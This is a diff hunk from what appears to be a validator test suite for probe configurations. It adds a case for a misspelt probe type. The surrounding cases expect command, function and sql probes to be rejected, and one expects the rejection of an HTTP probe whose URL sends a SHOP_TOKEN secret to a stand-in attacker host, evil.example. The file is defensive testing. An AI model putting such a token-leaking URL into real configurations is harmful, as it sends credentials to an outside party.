@@ -312,6 +312,7 @@ WEB = {"name": "x", "type": "http", "url": "http://127.0.0.1/"}
     ("table", "told"),
     [
         ({"name": "x", "type": "command", "command": "id"}, "type = 'command' can run code"),
+        ({"name": "x", "type": "htp"}, r"'htp' is not a probe type; did you mean http\?$"),
         ({"name": "x", "type": "function", "call": PROBE}, "can run code on the polling"),
         ({"name": "x", "type": "sql", "url": "sqlite:///x", "query": "select 1"}, "can run code"),
         ({**WEB, "url": "http://evil.example/${SHOP_TOKEN}"}, "may not use .* SHOP_TOKEN"),
